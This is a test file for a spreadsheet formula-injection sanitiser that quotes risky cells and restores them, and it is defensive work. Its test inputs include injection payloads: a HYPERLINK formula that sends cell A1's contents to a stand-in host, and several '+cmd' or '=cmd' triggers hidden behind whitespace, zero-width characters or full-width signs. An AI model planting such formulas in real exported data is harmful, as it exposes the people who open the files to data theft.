import { neutraliseCell, restoreNeutralised } from './spreadsheet-safe';

test.each([
  ['=HYPERLINK("http://x.example/?"&A1,"x")', `'=HYPERLINK("http://x.example/?"&A1,"x")`],
  ['+cmd', "'+cmd"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tTAB', "'\tTAB"],
  ['\rCR', "'\rCR"],
  ['＝１＋１', "'＝１＋１"],
  ['＋81', "'＋81"],
  ['－', "'－"],
  ['＠x', "'＠x"],
  ['-', "'-"],
])('a cell starting a formula gets a leading quote: %j', (cell, expected) => {
  expect(neutraliseCell(cell)).toBe(expected);
});

test.each([
  [' =1+1', "' =1+1"],
  ['  @SUM(A1)', "'  @SUM(A1)"],
  ['\n=cmd', "'\n=cmd"],
  ['\u3000=1+1', "'\u3000=1+1"],
  ['\u200B=1+1', "'\u200B=1+1"],
  ['\u2060+cmd', "'\u2060+cmd"],
  ['\uFEFF=HYPERLINK("x")', '\'\uFEFF=HYPERLINK("x")'],
  ['\u3000 \u200B＝１', "'\u3000 \u200B＝１"],
])(
  'a formula behind white space, an ideographic or zero-width space or a BOM too: %j',
  (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  },
);

test.each([
  '-5',
  '+3.2',
  '-0.5',
  '-1e3',
  '42',
  '',
  'テキスト',
  "'already",
  'a=b',
  ' -5',
  '\u3000+3',
  ' テキスト',
  '1e308x',
])('plain numbers and ordinary text stay as they are: %j', (cell) => {
  expect(neutraliseCell(cell)).toBe(cell);
});

test.each([
  ['\u22121+1', "'\u22121+1"],
  ['\uFE63cmd', "'\uFE63cmd"],
  ['\uFE62cmd', "'\uFE62cmd"],
  ['\uFE66cmd', "'\uFE66cmd"],
])('the minus sign and the small signs start a formula too: %j', (cell, expected) => {
  expect(neutraliseCell(cell)).toBe(expected);
});

test.each(['=1+1', '@SUM(A1)', ' =cmd', '－', '\u2212x', '-2+3'])(
  'a neutralised cell comes back as it was: %j',
  (cell) => {
    expect(restoreNeutralised(neutraliseCell(cell))).toBe(cell);
  },
);

test.each(["'text", "'123", "''=1", 'plain', "'"])(
  'text whose quote neutraliseCell would not have added stays as it is: %j',
  (cell) => {
    expect(restoreNeutralised(cell)).toBe(cell);
  },
);
